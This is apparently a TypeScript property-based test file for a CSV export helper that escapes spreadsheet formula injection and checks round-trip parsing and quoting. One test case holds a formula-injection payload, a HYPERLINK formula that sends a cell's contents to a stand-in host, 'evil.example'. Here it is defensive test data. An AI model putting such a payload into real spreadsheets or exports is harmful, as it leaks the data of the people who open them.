import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvCell, csvLine } from './submission-csv.ts';

test('whatever is written comes back from a parser, cell for cell', () => {
  // A line of one empty cell is an empty line, which CSV cannot tell from none; ours have many cells.
  const cells = fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 8 });
  fc.assert(
    fc.property(fc.array(cells, { minLength: 1, maxLength: 5 }), (lines) => {
      const text = lines.map(csvLine).join('');
      const read = parse(text, { relax_column_count: true, record_delimiter: '\r\n' }) as string[][];
      // Nothing is added but the apostrophes that make a formula text.
      const bare = (table: string[][]) => table.map((line) => line.map((cell) => cell.replaceAll("'", '')));
      expect(bare(read)).toEqual(bare(lines));
    }),
  );
});

test('no cell begins with a sign that makes it a formula', () => {
  const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠');
  fc.assert(
    fc.property(start, fc.string(), (sign, rest) => {
      const [[cell] = []] = parse(csvLine([sign + rest, 'x']), { record_delimiter: '\r\n' }) as string[][];
      expect(cell?.startsWith(`'${sign}`)).toBe(true);
    }),
  );
});

test('no cell begins with such a sign either where a semicolon or a tab separates cells', () => {
  const sign = fc.constantFrom(';', '\t', '"', "'", ' ', '=', '+', '-', '@', 'a', ',');
  fc.assert(
    fc.property(fc.string({ unit: sign }), (text) => {
      for (const cell of csvLine(['x', text]).split(/[;\t]/).slice(1))
        expect(cell).not.toMatch(/^["\s]*[=+\-@]/);
    }),
  );
});

test.for([
  ['=HYPERLINK("https://evil.example?"&A1)', '"\'=HYPERLINK(""https://evil.example?""&A1)"'],
  ['+1 305 555 0142', "'+1 305 555 0142"],
  ['Ana "la doctora" Ruiz', '"Ana ""la doctora"" Ruiz"'],
  ['dos\nlíneas', '"dos\nlíneas"'],
  ['a, b', '"a, b"'],
  ['José = José', 'José = José'],
  ['x;=1+1', '"x;\'=1+1"'],
  ['a; b', '"a; b"'],
  ['', ''],
] as const)('%s is written as %s', ([text, written]) => {
  expect(csvCell(text)).toBe(written);
});
